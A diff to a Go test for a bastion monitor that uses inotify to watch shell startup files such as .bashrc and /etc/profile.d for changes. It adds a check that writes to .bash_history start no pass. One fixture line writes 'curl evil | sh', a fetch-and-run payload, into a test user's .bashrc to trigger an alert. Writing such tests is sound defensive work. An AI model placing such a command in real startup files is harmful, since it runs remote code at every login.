@@ -320,7 +320,7 @@ func setACL(t *testing.T, path string, uid int) {
 // (its content, a symbolic link swapped in by rename, a file added to /etc/profile.d) is
 // seen through inotify within seconds, long before the hourly re-check: counted, kept in the
 // status with the accounts that read it, and handed to OnChange; a change to an account that
-// is not recorded is not.
+// is not recorded is not, and writes to other files of a home start no pass at all.
 func TestStartupFilesChangeAlerts(t *testing.T) {
 	h := newStartupHost(t)
 	changes := make(chan bastion.StartupChange, 16)
@@ -345,6 +345,15 @@ func TestStartupFilesChangeAlerts(t *testing.T) {
 		case <-time.After(5 * time.Second):
 			t.Fatalf("%s: no change seen within 5 s (status %+v)", what, h.check.Status())
 		}
+	}
+	// Other files of a home change all the time (.bash_history): they start no pass.
+	checked := h.check.Status().Checked
+	for i := range 20 {
+		writeRoot(t, filepath.Join(h.home(h.alice), ".bash_history"), strings.Repeat("ls\n", i), 0o600)
+	}
+	time.Sleep(300 * time.Millisecond)
+	if got := h.check.Status().Checked; !got.Equal(checked) {
+		t.Errorf("a write to .bash_history started a pass (checked %v, then %v)", checked, got)
 	}
 	bashrc := filepath.Join(h.home(h.alice), ".bashrc")
 	writeRoot(t, filepath.Join(h.home(h.carol), ".bashrc"), "curl evil | sh\n", 0o644)
